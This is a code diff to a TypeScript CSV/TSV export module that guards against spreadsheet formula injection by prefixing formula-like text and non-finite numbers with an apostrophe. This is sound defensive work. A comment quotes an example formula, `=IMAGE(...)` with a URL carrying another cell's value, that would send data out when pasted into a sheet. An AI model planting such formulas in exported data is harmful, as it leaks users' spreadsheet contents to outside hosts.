@@ -39,6 +39,9 @@ export function dialectDate(iso: string, dialect: CsvDialect): string {
 function field(cell: Cell, type: string | undefined, dialect: CsvDialect): string {
   if (cell === null) return '';
   if (typeof cell === 'boolean') return String(cell);
+  // -Infinity and NaN are no number a sheet reads: text, guarded like any (`'-Infinity`).
+  if (typeof cell === 'number' && !Number.isFinite(cell))
+    return textField(String(cell), dialect.separator);
   // A number: a 64-bit integer or a DECIMAL may come as its exact text.
   if (typeof cell === 'number' || (type && NUMBER.test(type) && typeof cell === 'string')) {
     const text = String(cell);
@@ -92,7 +95,14 @@ export function toCsv(
  * buttons). A tab or line break inside a cell would start another cell or row: it becomes a space.
  */
 export function toTsv(headers: readonly string[], rows: readonly (readonly Cell[])[]): string {
+  // Pasted into a sheet, a text that starts like a formula runs (`=IMAGE("https://…?d="&B2)`):
+  // it is guarded as the CSV's cells are (issue 46), and so is a number no sheet reads (-Infinity).
+  const guard = (text: string) => (startsFormula(text) ? `'${text}` : text);
   const cell = (value: Cell | string) =>
-    value === null ? '' : String(value).replace(/[\t\r\n]+/g, ' ');
+    value === null
+      ? ''
+      : typeof value === 'number' && Number.isFinite(value)
+        ? String(value)
+        : guard(String(value)).replace(/[\t\r\n]+/g, ' ');
   return [headers, ...rows].map((row) => row.map(cell).join('\t')).join('\n') + '\n';
 }
